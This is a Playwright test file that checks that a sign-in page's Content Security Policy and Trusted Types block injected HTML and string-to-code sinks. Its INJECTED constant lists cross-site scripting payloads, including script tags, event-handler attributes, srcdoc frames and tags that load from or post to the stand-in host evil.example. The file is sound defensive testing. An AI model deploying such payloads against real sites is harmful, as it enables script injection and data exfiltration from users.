import type { Page } from '@playwright/test'
import { expect, test } from './support/policy.ts'

/** What somebody would put into the page who found a way to; each would set `ran` to its name, or change the page. */
const INJECTED = `
  <script>window.ran = 'script'</script>
  <script src="data:text/javascript,window.ran = 'data'"></script>
  <script src="http://evil.example/evil.js"></script>
  <script type="module">window.ran = 'module'</script>
  <img src="http://evil.example/seen.png" onerror="window.ran = 'onerror'">
  <svg onload="window.ran = 'onload'"></svg>
  <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
  <iframe src="http://evil.example/evil.html"></iframe>
  <object data="http://evil.example/evil.html"></object>
  <base href="http://evil.example/">
  <link rel="stylesheet" href="http://evil.example/evil.css">
  <style>body { outline: 9px solid red }</style>
  <p style="color: red">a word</p>
  <a href="javascript:window.ran = 'url'">a link</a>
  <form action="http://evil.example/"><button>Send</button></form>`

/** The directives that forbid it. */
const FORBIDDEN_BY = [
  'base-uri',
  'form-action',
  'frame-src',
  'img-src',
  'object-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
]

const ran = (page: Page) => page.evaluate<unknown>(() => Reflect.get(window, 'ran'))

// The browser's console tells of everything that is forbidden.
test.use({ expectedFault: /Content Security Policy|violates the following|This document requires/ })

test('what is put into the page’s HTML neither runs, nor shows, nor asks anybody for anything', async ({
  page,
  go,
  forbidden,
}) => {
  // The hole is made here: the server has none to put this through.
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</body>', `${INJECTED}</body>`)
    await route.fulfill({ response, body })
  })
  const asked: string[] = []
  // Should the page ask it, nobody outside is asked.
  await page.route('http://evil.example/**', (route, request) => {
    asked.push(request.url())
    return route.fulfill({ body: '' })
  })
  await go('signIn')
  await expect(page.getByRole('heading', { name: 'Sign in to VPC Console' })).toBeVisible()
  const word = page.getByText('a word')
  expect(await word.evaluate((it) => getComputedStyle(it).color)).not.toBe('rgb(255, 0, 0)')
  expect(await page.evaluate(() => getComputedStyle(document.body).outlineStyle)).toBe('none')
  await page.getByRole('link', { name: 'a link' }).click()
  expect(await ran(page)).toBeUndefined()
  // A click would wait for the answer to what is sent, and nothing is.
  await page.getByRole('button', { name: 'Send' }).dispatchEvent('click')
  await expect
    .poll(() => new Set(forbidden.map((what) => what.split(':')[0])))
    .toEqual(new Set(FORBIDDEN_BY))
  expect(asked).toEqual([])
})

/** Tries, as a script of the page would, to make code or HTML out of texts; answers what came of each way. */
function tryEverything(): Promise<[way: string, outcome: string][]> {
  const link = document.createElement('a')
  const script = document.createElement('script')
  const ways: [way: string, use: () => unknown][] = [
    // oxlint-disable-next-line no-eval -- that it does not work is what is tested
    ['eval', () => globalThis.eval('1')],
    ['new Function', () => Reflect.construct(Function, ['return 1'])],
    ['innerHTML', () => Reflect.set(document.body, 'innerHTML', '<b>a word</b>')],
    ['insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>a word</b>')],
    ['DOMParser', () => new DOMParser().parseFromString('<b>a word</b>', 'text/html')],
    ['an attribute', () => link.setAttribute('onclick', 'window.ran = 1')],
    ['the address of a script', () => Reflect.set(script, 'src', '/assets/other.js')],
    ['the text of a script', () => Reflect.set(script, 'text', 'window.ran = 1')],
    [
      'the frame of another page',
      () => Reflect.set(document.createElement('iframe'), 'srcdoc', ''),
    ],
    ['a trusted types policy', () => Reflect.get(window, 'trustedTypes').createPolicy('own', {})],
  ]
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- the page is handed this function alone
  const outcomeOf = (use: () => unknown): string => {
    try {
      use()
      return 'allowed'
    } catch (error) {
      return error instanceof Error ? error.name : String(error)
    }
  }
  // In a turn of its own: what is asked from outside may make code out of texts for as long as it is asked.
  return new Promise((resolve) => {
    setTimeout(() => resolve(ways.map(([way, use]) => [way, outcomeOf(use)])))
  })
}

test('a text is made into code or HTML in no way', async ({ page, go }) => {
  await go('signIn')
  await expect(page.getByRole('heading', { name: 'Sign in to VPC Console' })).toBeVisible()
  const outcomes = await page.evaluate(tryEverything)
  expect(outcomes.map(([way, outcome]) => `${way}: ${outcome}`)).toEqual([
    'eval: EvalError',
    'new Function: EvalError',
    'innerHTML: TypeError',
    'insertAdjacentHTML: TypeError',
    'DOMParser: TypeError',
    'an attribute: TypeError',
    'the address of a script: TypeError',
    'the text of a script: TypeError',
    'the frame of another page: TypeError',
    'a trusted types policy: TypeError',
  ])
  expect(await ran(page)).toBeUndefined()
})
